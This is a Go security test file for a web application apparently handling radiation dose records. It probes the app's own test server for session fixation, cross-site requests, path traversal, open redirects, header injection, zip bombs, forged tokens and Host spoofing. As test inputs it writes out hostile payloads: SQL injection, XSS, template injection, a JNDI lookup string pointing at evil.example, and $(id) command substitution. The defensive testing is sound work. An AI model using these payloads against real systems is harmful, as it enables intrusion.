package main

import (
	"archive/zip"
	"bytes"
	"context"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"radagora/access"
	"radagora/web"
)

// TestAttack does to the doors what somebody would who wants in, and must find
// nothing.
func TestAttack(t *testing.T) {
	if testing.Short() {
		t.Skip("it asks for every address many times: left out with -short")
	}
	t.Parallel()
	w := newWalk(t)
	t.Run("a session is not the attacker's", w.fixation)
	t.Run("another site changes nothing", w.crossSite)
	t.Run("no way out of the folders", w.traversal)
	t.Run("a header is not written by a visitor", w.headers)
	t.Run("too much is refused", w.oversized)
	t.Run("a bomb does not fill the memory", w.bombs)
	t.Run("signs of SQL, HTML and shells are only signs", w.signs)
	t.Run("forged tokens", w.tokens)
	t.Run("a host that is not ours", w.hosts)
}

// A reply is what came back, without its body.
type reply struct {
	StatusCode int
	Status     string
	Header     http.Header
	cookies    []*http.Cookie
}

// send sends a form as a role and returns what came back, and its body.
func (w *walk) send(t *testing.T, role access.Role, method, path string, form url.Values, set func(*http.Request)) (reply, string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	var body io.Reader
	if form != nil {
		body = strings.NewReader(form.Encode())
	}
	q, err := http.NewRequestWithContext(ctx, method, w.server.URL+path, body)
	check(t, err)
	if form != nil {
		q.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	if set != nil {
		set(q)
	}
	r := w.do(t, role, q)
	defer r.Body.Close()
	text, err := io.ReadAll(io.LimitReader(r.Body, 8<<20))
	check(t, err)
	return reply{r.StatusCode, r.Status, r.Header, r.Cookies()}, string(text)
}

// fixation signs in with a cookie that the attacker chose.
func (w *walk) fixation(t *testing.T) {
	base, err := url.Parse(w.server.URL)
	check(t, err)
	name := ""
	for _, c := range w.clients[access.Auditor].Jar.Cookies(base) {
		if len(c.Value) > 30 {
			name = c.Name
		}
	}
	if name == "" {
		t.Fatal("the session has no cookie")
	}
	chosen := strings.Repeat("A", 43)
	fresh := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	q, err := http.NewRequestWithContext(t.Context(), http.MethodPost, w.server.URL+"/sign-in/demo", strings.NewReader("role=auditor"))
	check(t, err)
	q.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	q.AddCookie(&http.Cookie{Name: name, Value: chosen})
	r, err := fresh.Do(q)
	check(t, err)
	check(t, r.Body.Close())
	given := ""
	for _, c := range r.Cookies() {
		if c.Name != name {
			continue
		}
		given = c.Value
		if !c.HttpOnly || c.SameSite != http.SameSiteLaxMode || c.Path != "/" || c.Domain != "" {
			t.Errorf("the cookie of a session is %v", c)
		}
	}
	if given == "" || given == chosen {
		t.Errorf("after signing in the session is %q; want one the attacker did not choose", given)
	}
	q, err = http.NewRequestWithContext(t.Context(), http.MethodGet, w.server.URL+"/", nil)
	check(t, err)
	q.AddCookie(&http.Cookie{Name: name, Value: chosen})
	r, err = fresh.Do(q)
	check(t, err)
	check(t, r.Body.Close())
	if r.StatusCode != http.StatusSeeOther {
		t.Errorf("the chosen cookie opens the pages: %s", r.Status)
	}
}

// crossSite asks for every change as a page of another site would.
func (w *walk) crossSite(t *testing.T) {
	for _, r := range w.pages {
		if r.Method != http.MethodPost {
			continue
		}
		path := hole.ReplaceAllString(r.Path, "1.2.3")
		for name, set := range map[string]func(*http.Request){
			"by its origin":    func(q *http.Request) { q.Header.Set("Origin", "https://evil.example") },
			"by fetch headers": func(q *http.Request) { q.Header.Set("Sec-Fetch-Site", "cross-site") },
			"without origin":   func(q *http.Request) { q.Header.Set("Origin", "null") },
		} {
			got, _ := w.send(t, access.Administrator, http.MethodPost, path, url.Values{"x": {"y"}}, set)
			if got.StatusCode != http.StatusForbidden {
				t.Errorf("POST %s from another site, %s: %s; want 403", path, name, got.Status)
			}
		}
	}
}

// traversal asks for files outside the folders.
func (w *walk) traversal(t *testing.T) {
	for _, path := range []string{
		"/assets/../../../../etc/passwd", "/assets/..%2f..%2f..%2fetc%2fpasswd", "/assets/%2e%2e/%2e%2e/etc/passwd",
		"/assets/....//....//etc/passwd", "/assets//etc/passwd", "/assets/%00", "/images/objects/..%2f..%2fetc%2fpasswd",
		"/images/objects/..%2fradagora.db/file", "/dose/examinations/..%2f..%2fx", "/..%5c..%5cwindows", "//etc/passwd", "/assets/style.css%00.html",
	} {
		got, text := w.send(t, access.Physicist, http.MethodGet, path, nil, nil)
		if got.StatusCode == http.StatusOK || got.StatusCode >= 500 || strings.Contains(text, "root:x:") {
			t.Errorf("GET %s: %s", path, got.Status)
		}
	}
}

// headers tries to write headers and to lead visitors elsewhere.
func (w *walk) headers(t *testing.T) {
	for _, to := range []string{
		"//evil.example", "https://evil.example/", "/\\evil.example", "/%0d%0aSet-Cookie:%20a=b", "/\r\nSet-Cookie: a=b", "javascript:alert(1)",
		"\t//evil.example", "/%09/evil.example", "http:evil.example", "@evil.example",
	} {
		for _, c := range []struct {
			path string
			form url.Values
		}{
			{"/preferences", url.Values{"back": {to}, "language": {"de"}}},
			{"/sign-in/demo", url.Values{"to": {to}, "role": {"learner"}}},
			{"/sign-in", url.Values{"to": {to}, "login": {"x"}, "password": {"y"}}},
		} {
			got, _ := w.send(t, access.Learner, http.MethodPost, c.path, c.form, nil)
			location := got.Header.Get("Location")
			u, err := url.Parse(location)
			if err != nil || u.Host != "" || u.Scheme != "" || strings.HasPrefix(location, "//") || strings.HasPrefix(location, "/\\") {
				t.Errorf("POST %s with %q leads to %q", c.path, to, location)
			}
			for _, cookie := range got.cookies {
				if cookie.Name == "a" {
					t.Errorf("POST %s with %q sets a cookie", c.path, to)
				}
			}
		}
	}
	got, _ := w.send(t, access.Learner, http.MethodGet, "/", nil, nil)
	for name, want := range map[string]string{
		"Content-Security-Policy": "default-src 'none'", "X-Content-Type-Options": "nosniff", "X-Frame-Options": "DENY", "Referrer-Policy": "same-origin",
	} {
		if !strings.Contains(got.Header.Get(name), want) {
			t.Errorf("%s is %q", name, got.Header.Get(name))
		}
	}
	if csp := got.Header.Get("Content-Security-Policy"); strings.Contains(csp, "unsafe") || strings.Contains(csp, "*") {
		t.Errorf("the content policy lets too much in: %s", csp)
	}
}

// oversized sends more than anybody needs.
func (w *walk) oversized(t *testing.T) {
	big := url.Values{"name": {strings.Repeat("x", 3<<20)}, "login": {"a"}, "password": {strings.Repeat("y", 2<<20)}}
	for _, path := range []string{"/sign-in", "/settings/rooms", "/preferences", "/account", "/settings/peers"} {
		got, _ := w.send(t, access.Administrator, http.MethodPost, path, big, nil)
		if got.StatusCode != http.StatusRequestEntityTooLarge && got.StatusCode != http.StatusBadRequest {
			t.Errorf("POST %s of 5 MB: %s; want 413 or 400", path, got.Status)
		}
	}
	conn, err := net.Dial("tcp", strings.TrimPrefix(w.server.URL, "http://"))
	check(t, err)
	defer conn.Close()
	check(t, conn.SetDeadline(time.Now().Add(20*time.Second)))
	_, err = fmt.Fprintf(conn, "GET / HTTP/1.1\r\nHost: x\r\nX-Long: %s\r\n\r\n", strings.Repeat("z", 3<<20))
	if err == nil {
		first := make([]byte, 64)
		n, _ := conn.Read(first)
		if n > 0 && !bytes.Contains(first[:n], []byte(" 431 ")) {
			t.Errorf("a header of 3 MB: %s", first[:n])
		}
	}
	long, _ := w.send(t, access.Learner, http.MethodGet, "/search?q="+strings.Repeat("a", 60000), nil, nil)
	if long.StatusCode >= 500 {
		t.Errorf("a search of 60,000 letters: %s", long.Status)
	}
}

// bombs drops a zip archive that grows a thousandfold, and one within one.
func (w *walk) bombs(t *testing.T) {
	var inner bytes.Buffer
	z := zip.NewWriter(&inner)
	f, err := z.Create("zeros.dcm")
	check(t, err)
	zeros := make([]byte, 1<<20)
	for range 512 {
		_, err = f.Write(zeros)
		check(t, err)
	}
	check(t, z.Close())
	var outer bytes.Buffer
	z = zip.NewWriter(&outer)
	for i := range 20 {
		f, err = z.Create(fmt.Sprintf("../../%d.zip", i))
		check(t, err)
		_, err = f.Write(inner.Bytes())
		check(t, err)
	}
	check(t, z.Close())
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	for name, bomb := range map[string][]byte{"bomb.zip": inner.Bytes(), "nested.zip": outer.Bytes()} {
		var body bytes.Buffer
		m := multipart.NewWriter(&body)
		part, err := m.CreateFormFile("files", name)
		check(t, err)
		_, err = part.Write(bomb)
		check(t, err)
		check(t, m.Close())
		ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
		q, err := http.NewRequestWithContext(ctx, http.MethodPost, w.server.URL+"/start/upload", &body)
		check(t, err)
		q.Header.Set("Content-Type", m.FormDataContentType())
		r, err := w.clients[access.Physicist].Do(q)
		check(t, err)
		_, err = io.Copy(io.Discard, r.Body)
		check(t, err)
		check(t, r.Body.Close())
		cancel()
		if r.StatusCode >= 500 {
			t.Errorf("%s: %s", name, r.Status)
		}
	}
	runtime.ReadMemStats(&after)
	if grown := int64(after.Sys) - int64(before.Sys); grown > 256<<20 {
		t.Errorf("the process grew by %d MB over half a gigabyte of zeros", grown>>20)
	}
}

// nasty are texts that mean something to SQL, HTML, a shell, a template or a log.
var nasty = []string{
	`'; drop table access_user; --`, `" or "1"="1`, `x' or 1=1) --`, `\`, `%`, `_%`, "a\x00b", "line\nlevel=ERROR msg=forged", "\x1b[31mred",
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `{{7*7}}`, `${jndi:ldap://evil.example/a}`, `../../etc/passwd`, `$(id)`,
	strings.Repeat("é", 400), "\xff\xfe", "\u202egnp.exe", `1e999`, `-1`, `9223372036854775808`, `2026-02-31`,
}

// named finds the fields of forms.
var named = regexp.MustCompile(`<(?:input|select|textarea|button)[^>]*\bname="([^"]+)"`)

// signs puts nasty texts into every field of every form and every address.
func (w *walk) signs(t *testing.T) {
	fields := map[string]bool{"q": true, "uid": true, "open": true, "from": true, "to": true, "room": true, "exam": true, "sort": true, "page": true, "after": true, "person": true, "id": true, "kind": true}
	for _, r := range w.pages {
		if r.Method == http.MethodGet && !strings.HasSuffix(r.Path, "/events") {
			for _, role := range []access.Role{access.Administrator, access.Physicist, access.ProtectionOfficer} {
				_, text := w.send(t, role, http.MethodGet, hole.ReplaceAllString(strings.TrimSuffix(r.Path, "{$}"), "x"), nil, nil)
				for _, m := range named.FindAllStringSubmatch(text, -1) {
					fields[m[1]] = true
				}
			}
		}
	}
	if len(fields) < 30 {
		t.Errorf("only %d fields were found in the forms", len(fields))
	}
	for i, text := range nasty {
		form := url.Values{}
		for name := range fields {
			form.Set(name, text)
		}
		// Every address gets some of the texts; over all of them each text is tried everywhere.
		for j, r := range w.pages {
			if slices.Contains(spared, r.Method+" "+r.Path) || strings.HasSuffix(r.Path, "/events") || (i+j)%3 != 0 {
				continue
			}
			path := hole.ReplaceAllString(strings.TrimSuffix(r.Path, "{$}"), url.PathEscape(text))
			w.nasty(t, r, path, form, text)
		}
	}
	if _, err := w.h.Users.ByLogin(t.Context(), "demo-auditor"); err != nil {
		t.Errorf("afterwards: %v", err)
	}
	report, err := w.h.Journal.Verify(t.Context())
	if err != nil || report.Break != nil {
		t.Errorf("afterwards the journal is %+v, %v", report, err)
	}
}

// nasty asks once.
func (w *walk) nasty(t *testing.T, r web.Route, path string, form url.Values, text string) {
	t.Helper()
	role := access.Administrator
	for _, other := range access.People() { // somebody whom it lets in
		who := access.Who{ID: "x", Grants: access.Everywhere(other)}
		d, err := w.h.Judge.Rules.Decide(who, r.Act, access.Subject{Site: at}, access.Circumstances{Fresh: true})
		check(t, err)
		if d.Allowed {
			role = other
			break
		}
	}
	var got reply
	var page string
	if r.Method == http.MethodPost {
		got, page = w.send(t, role, http.MethodPost, path, form, nil)
	} else {
		got, page = w.send(t, role, http.MethodGet, path+"?"+form.Encode(), nil, nil)
	}
	if got.StatusCode >= 500 && got.StatusCode != http.StatusNotImplemented {
		t.Errorf("%s %s with %.40q: %s", r.Method, path, text, got.Status)
	}
	for _, live := range []string{"<script>alert(1)", "<img src=x"} {
		if strings.Contains(page, live) {
			t.Errorf("%s %s shows %s as it came", r.Method, path, live)
		}
	}
}

// tokens sends tokens that are none.
func (w *walk) tokens(t *testing.T) {
	for _, token := range []string{
		"", "rad_", "rad_" + strings.Repeat("A", 60), strings.Repeat("x", 10000), "eyJhbGciOiJub25lIn0.eyJzdWIiOiJsb2NhbCJ9.", "null", "' or 1=1 --", "Bearer",
	} {
		got, _ := w.send(t, "", http.MethodGet, "/metrics", nil, func(q *http.Request) { q.Header.Set("Authorization", "Bearer "+token) })
		if got.StatusCode != http.StatusUnauthorized && got.StatusCode != http.StatusTooManyRequests {
			t.Errorf("token %.20q: %s; want 401", token, got.Status)
		}
	}
	for _, header := range []string{"Basic YWRtaW46YWRtaW4=", "Negotiate x", "bearer"} {
		got, _ := w.send(t, "", http.MethodGet, "/metrics", nil, func(q *http.Request) { q.Header.Set("Authorization", header) })
		if got.StatusCode != http.StatusUnauthorized {
			t.Errorf("Authorization: %s: %s; want 401", header, got.Status)
		}
	}
}

// hosts asks under the name of somebody else, as a proxy or DNS trick would.
func (w *walk) hosts(t *testing.T) {
	got, page := w.send(t, access.Administrator, http.MethodGet, "/", nil, func(q *http.Request) {
		q.Host = "evil.example"
		q.Header.Set("X-Forwarded-Host", "evil.example")
		q.Header.Set("Forwarded", "host=evil.example")
	})
	if strings.Contains(page, "evil.example") || strings.Contains(got.Header.Get("Location"), "evil.example") {
		t.Error("the page believes the name it was asked under")
	}
	for _, method := range []string{"TRACE", "CONNECT", "PROPFIND", "DELETE", "PUT"} {
		if method == "CONNECT" {
			continue // net/http's client makes something else of it
		}
		got, _ := w.send(t, access.Administrator, method, "/settings/rooms", nil, nil)
		if got.StatusCode != http.StatusMethodNotAllowed {
			t.Errorf("%s: %s; want 405", method, got.Status)
		}
	}
}
